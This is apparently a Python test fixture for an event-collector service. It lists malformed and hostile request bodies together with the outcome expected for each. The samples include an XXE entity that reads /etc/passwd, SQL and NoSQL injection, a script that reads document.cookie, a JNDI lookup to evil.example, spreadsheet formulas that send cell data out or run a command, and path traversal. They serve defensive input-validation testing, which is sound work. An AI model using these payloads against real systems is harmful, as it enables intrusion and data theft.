"""Hostile texts: broken JSON, values, times, batches; by the words that docs/bad-input.md has for them."""

import json
from typing import Any

from tests.integration.collector.harness import BROWSER_KEY
from tests.integration.collector.hostile_kit import Hostile, accepted, instant, rejected, request, text, view

GOOD = text(view())
LINES = "Content-Type: application/x-ndjson"
ID = "7F1C2D3E-0000-4000-8000-00000000000A"
PAID: dict[str, Any] = {
    "event_type": "purchase",
    "data": {
        "purchase_id": "p-1",
        "app_id": "a-1",
        "user_id": "u-1",
        "amount": "9.99",
        "currency": "EUR",
        "quantity": 1,
        "region": "DE",
    },
}
HANDLED: dict[str, Any] = {
    "event_type": "request_log",
    "data": {"service": "s", "method": "GET", "path": "/", "status": 200, "duration_ms": 3, "region": "DE"},
}


def named(page_name: str) -> Hostile:
    return accepted(view(page_name=page_name))


def paid(**wrong: Any) -> Hostile:
    return rejected(text({**PAID, "data": {**PAID["data"], **wrong}}))


def at(occurred_at: Any) -> Hostile:
    return rejected(text({**view(), "occurred_at": occurred_at}))


def of_type(event_type: Any) -> Hostile:
    return rejected(text({**view(), "event_type": event_type}))


def version(schema_version: str) -> Hostile:
    return rejected(GOOD[:-1] + b', "schema_version": ' + schema_version.encode() + b"}")


def batch(bad: bytes) -> Hostile:
    """An array in which a bad event stands between two good ones."""
    return Hostile(request(b"[" + b", ".join([GOOD, bad, GOOD]) + b"]"), texts=(bad,), data=(view()["data"],) * 2)


JSON: dict[str, Hostile] = {
    "an event cut off": rejected(GOOD[:-10]),
    "nothing": Hostile(request(b"")),
    "blanks and line ends": Hostile(request(b" \r\n\t ")),
    "plain words": rejected(b"hello"),
    "XML": rejected(b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    "a form": rejected(b"event_type=page_view&region=DE"),
    "MessagePack": rejected(b"\x82\xaaevent_type\xa9page_view\xa4data\x80"),
    "two events without a comma": rejected(GOOD + GOOD),
    "a comma behind the last field": rejected(GOOD[:-1] + b",}"),
    "single quotes": rejected(GOOD.replace(b'"', b"'")),
    "a comment": rejected(b"/* hello */" + GOOD),
    "NaN": rejected(GOOD[:-1] + b', "schema_version": NaN}'),
    "Infinity": rejected(GOOD[:-1] + b', "schema_version": -Infinity}'),
    "1e400": rejected(GOOD[:-1] + b', "schema_version": 1e400}'),
    "a number with leading zeros": rejected(GOOD[:-1] + b', "schema_version": 01}'),
    "a number in hexadecimal": rejected(GOOD[:-1] + b', "schema_version": 0x1}'),
    "a number of 5,000 digits": rejected(GOOD[:-1] + b', "schema_version": ' + b"9" * 5000 + b"}"),
    "a field twice": Hostile(request(GOOD[:-2] + b', "region": "FR"}}'), data=(view(region="FR")["data"],)),
    "the type twice, the last one unknown": rejected(GOOD[:-1] + b', "event_type": "nothing"}'),
    "100,000 brackets, closed": Hostile(
        request(b"[" * 100_000 + b"]" * 100_000), texts=(b"[" * 99_999 + b"]" * 99_999,)
    ),
    "5,000 brackets, closed": Hostile(request(b"[" * 5000 + b"]" * 5000), texts=(b"[" * 4999 + b"]" * 4999,)),
    "100,000 brackets, left open": rejected(b"[" * 100_000),
    "100,000 nested objects": rejected(b'{"data":' * 100_000 + b"1" + b"}" * 100_000),
    "data nested 300 deep": rejected(b'{"event_type": "page_view", "data": ' + b"[" * 300 + b"]" * 300 + b"}"),
    "a byte order mark": rejected(b"\xef\xbb\xbf" + GOOD),
    "UTF-16": rejected(GOOD.decode().encode("utf-16")),
    "UTF-32": rejected(GOOD.decode().encode("utf-32")),
    "UTF-16, declared": Hostile(
        request(GOOD.decode().encode("utf-16"), "Content-Type: application/json; charset=utf-16")
    ),
    "Latin-1": rejected(GOOD.replace(b'"/"', b'"caf\xe9"')),
    "an overlong UTF-8 slash": rejected(GOOD.replace(b'"/"', b'"\xc0\xaf"')),
    "a surrogate in UTF-8": rejected(GOOD.replace(b'"/"', b'"\xed\xa0\x80"')),
    "a high surrogate alone": rejected(GOOD.replace(b'"/"', b'"\\ud800"')),
    "a low surrogate alone": rejected(GOOD.replace(b'"/"', b'"\\udc00 x"')),
    "surrogates the wrong way round": rejected(GOOD.replace(b'"/"', b'"\\udc00\\ud800"')),
    "a surrogate in a field's name": rejected(GOOD[:-1] + b', "\\ud800": 1}'),
    "a NUL byte in a text": rejected(GOOD.replace(b'"/"', b'"a\0b"')),
    "NUL bytes only": rejected(b"\0" * 1000),
    "a NUL as an escape": rejected(GOOD.replace(b'"/"', b'"a\\u0000b"')),
    "a line end in a text": rejected(GOOD.replace(b'"/"', b'"a\nb"')),
    "an unknown escape": rejected(GOOD.replace(b'"/"', b'"\\x41"')),
    "a number": rejected(b"12"),
    "a text": rejected(b'"page_view"'),
    "null": rejected(b"null"),
    "an empty object": rejected(b"{}"),
    "an empty array": Hostile(request(b"[ ]")),
    "an array of arrays": Hostile(request(b"[[], [[]]]"), texts=(b"[]", b"[[]]")),
    "an array cut off": rejected(b"[" + GOOD + b", " + GOOD[:20]),
    "an array with more behind it": rejected(b"[" + GOOD + b"]]"),
    "lines sent as JSON": rejected(GOOD + b"\n" + GOOD),
}

VALUES: dict[str, Hostile] = {
    "no type": rejected(b'{"data": {}}'),
    "a number as the type": of_type(7),
    "a list as the type": of_type(["page_view"]),
    "an object as the type": of_type({"$ne": None}),
    "a type that does not exist": of_type("nothing"),
    "a type in capitals": of_type("PAGE_VIEW"),
    "a path as the type": of_type("../../../etc/passwd"),
    "a path behind the type": of_type("page_view/../purchase"),
    "a topic as the type": of_type("collector_receipts"),
    "a type with a NUL": of_type("page_view\0"),
    "`__proto__` as the type": of_type("__proto__"),
    "SQL as the type": of_type("page_view'; drop table rollups.page_view_minute; --"),
    "a type of 30,000 characters": of_type("a" * 30_000),
    "version 0": version("0"),
    "version -1": version("-1"),
    "version 10^30": version("1" + "0" * 30),
    "version 1.0": version("1.0"),
    "version true": version("true"),
    "a version as text": version('"1"'),
    "a version of null": version("null"),
    "no data": rejected(b'{"event_type": "page_view"}'),
    "data of null": rejected(b'{"event_type": "page_view", "data": null}'),
    "a list as data": rejected(b'{"event_type": "page_view", "data": [["region", "DE"]]}'),
    "data as JSON in a text": rejected(text({"event_type": "page_view", "data": json.dumps(view()["data"])})),
    "`__proto__` and `constructor` in data": rejected(text(view(**{"__proto__": {"a": 1}, "constructor": {}}))),
    "a tenant of the client's choice": rejected(text({**view(), "tenant": "other"})),
    "a receipt time of the client's choice": rejected(text({**view(), "received_at": "2020-01-01T00:00:00Z"})),
    "a sequence of the client's choice": rejected(text({**view(), "collector_id": "c", "sequence": 1})),
    "a name with a slash and a tilde": rejected(text({**view(), "a/b~c": 1})),
    "2,800 unknown fields": rejected(text(view(**{f"f{number}": 1 for number in range(2800)}))),
    "wrong types in every field": rejected(text(view(region=5, page_name={}, is_bot="yes", visitor_id=[1]))),
    "a region in small letters": rejected(text(view(region="de"))),
    "a region in other letters that look alike": rejected(text(view(region="D\u0415"))),
    "a region in full-width letters": rejected(text(view(region="\uff24\uff25"))),
    "a region with a line end": rejected(text(view(region="DE\n"))),
    "an escape sequence of a terminal": rejected(text(view(page_name="\x1b[2Jgone"))),
    "a name over its length": rejected(text(view(page_name="\u00e4" * 513))),
    "an identifier with blanks": rejected(text(view(visitor_id="a b"))),
    "an amount as a number": paid(amount=9.99),
    "a negative amount": paid(amount="-1"),
    "an amount with an exponent": paid(amount="1e5"),
    "an amount of 30 digits": paid(amount="9" * 30),
    "an amount of NaN": paid(amount="NaN"),
    "an amount in Arabic digits": paid(amount="\u0661\u0662"),
    "an amount with blanks": paid(amount=" 1.00 "),
    "a currency in small letters": paid(currency="eur"),
    "a quantity of 0": paid(quantity=0),
    "a quantity of 1.5": paid(quantity=1.5),
    "a quantity of 1e100": paid(quantity=1e100),
    "a quantity of 2^63": paid(quantity=2**63),
    "a quantity as text": paid(quantity="1"),
    "a quantity of true": paid(quantity=True),
    "milliseconds given in seconds": rejected(text({**HANDLED, "data": {**HANDLED["data"], "duration_ms": 0.25}})),
    "a formula": named('=HYPERLINK("http://evil.example?"&A1,"click")'),
    "a formula that runs a program": named("+cmd|' /C calc'!A0"),
    "SQL": named("'; DROP TABLE marts.page_daily; --"),
    "a script": named("<script>alert(document.cookie)</script>"),
    "a template": named("{{7*7}} ${jndi:ldap://evil.example/a} #{1+1} %s%n"),
    "a path": named("../../../../etc/passwd"),
    "text that turns the direction of writing": named("a\u202egnp.exe\u200b\ufeff"),
    "512 characters of four bytes": named("\U0001f4a3" * 512),
}

TIMES: dict[str, Hostile] = {
    "30 February": at("2026-02-30T12:00:00Z"),
    "hour 24": at("2026-01-01T24:00:00Z"),
    "second 60": at("2016-12-31T23:59:60Z"),
    "no offset": at("2026-01-01T12:00:00"),
    "a date alone": at("2026-01-01"),
    "a week's date": at("2026-W01-1T12:00:00Z"),
    "a blank for the T": at("2026-01-01 12:00:00Z"),
    "a small t and z": at("2026-01-01t12:00:00z"),
    "a comma before the fraction": at("2026-01-01T12:00:00,5Z"),
    "ten digits of a second": at("2026-01-01T12:00:00.1234567890Z"),
    "an offset of 25 hours": at("2026-01-01T12:00:00+25:00"),
    "Arabic digits": at("\u0662\u0660\u0662\u0666-01-01T12:00:00Z"),
    "the word now": at("now"),
    "an empty text": at(""),
    "year 0": at("0000-01-01T00:00:00Z"),
    "year 1969": at("1969-12-31T23:59:59Z"),
    "year 9999": at("9999-12-31T23:59:59Z"),
    "seconds since 1970": at(1_767_268_800),
    "milliseconds since 1970": at(1_767_268_800_000),
    "a negative number": at(-1),
    "a number of 30 digits": at(10**30),
    "seconds read as milliseconds": at("1970-01-21T10:54:28Z"),
    "year 2999": at("2999-12-31T23:59:59-23:59"),
    "a browser's event of 2020": rejected(text({**view(), "occurred_at": "2020-01-01T00:00:00Z"}), key=BROWSER_KEY),
    "an id that is no UUID": rejected(text({**view(), "event_id": "1", "occurred_at": instant()})),
    "an id in braces": rejected(text({**view(), "event_id": "{" + ID + "}", "occurred_at": instant()})),
    "an id as a URN": rejected(text({**view(), "event_id": f"urn:uuid:{ID}", "occurred_at": instant()})),
    "an id without a time": rejected(text({**view(), "event_id": ID})),
}

TWICE = {**view(), "event_id": ID, "occurred_at": instant()}
BATCHES: dict[str, Hostile] = {
    "a NaN between good events": batch(b'{"event_type": "metric", "data": {"value": NaN}}'),
    "a number over every bound between good events": batch(b'{"event_type": "metric", "data": {"value": 1e400}}'),
    "100,000 brackets between good events": batch(b"[" * 100_000 + b"]" * 100_000),
    "an escape that is none between good events": batch(b'{"event_type": "page_view", "data": {"region": "\\x"}}'),
    "a wrong value between good events": batch(b'{"event_type": "page_view", "data": {"region": "xx"}}'),
    "an event over the bound between good events": batch(text(view(referrer="x" * 33_000))),
    "a broken line between good ones": Hostile(
        request(GOOD + b"\n{\n" + GOOD, LINES), texts=(b"{",), data=(view()["data"],) * 2
    ),
    "an array with a comma too many": Hostile(request(b"[" + GOOD + b",]"), texts=(b"",), data=(view()["data"],)),
    "an array with a quote left open": rejected(b"[" + GOOD + b', {"a": "}, ' + GOOD + b"]"),
    "1,001 events": Hostile(request(b"[" + b",".join([b"{}"] * 1001) + b"]")),
    "1,001 lines": Hostile(request(b"{}\n" * 1001, LINES)),
    "500,000 numbers": Hostile(request(b"[" + b"1," * 499_990 + b"1]")),
    "330,000 objects, one of them broken": Hostile(request(b"[" + b"{}," * 330_000 + b"NaN]")),
    "1,000 empty objects": Hostile(request(b"[" + b",".join([b"{}"] * 1000) + b"]"), texts=(b"{}",) * 1000),
    "30 events of 2,800 unknown fields": Hostile(
        request(b"[" + b",".join([text({f"f{number}": 1 for number in range(2800)})] * 30) + b"]"),
        texts=(text({f"f{number}": 1 for number in range(2800)}),) * 30,
    ),
    "an event over its bound": rejected(text(view(referrer="x" * 33_000))),
    "the same id twice": Hostile(request(text([TWICE, TWICE])), data=(view()["data"],) * 2),
    "the same id twice, with other content": Hostile(
        request(text([TWICE, {**TWICE, **view(region="FR")}])), data=(view()["data"], view(region="FR")["data"])
    ),
    "an id and an Idempotency-Key": Hostile(
        request(text(TWICE), "Idempotency-Key: order-7"), data=(view()["data"],)
    ),
    "a short form with a name that is none": rejected(
        text({"timestamp": instant(), "region": "DE", "pageName": "/", "page_name": "/"}), target="/page-view"
    ),
    "a short form with a surrogate as a name": rejected(
        text({"timestamp": instant(), "region": "DE", "pageName": "/"})[:-1] + b', "\\ud800": 1}', target="/page-view"
    ),
    "an event on the path of the short form": rejected(GOOD, target="/page-view"),
}  # fmt: skip
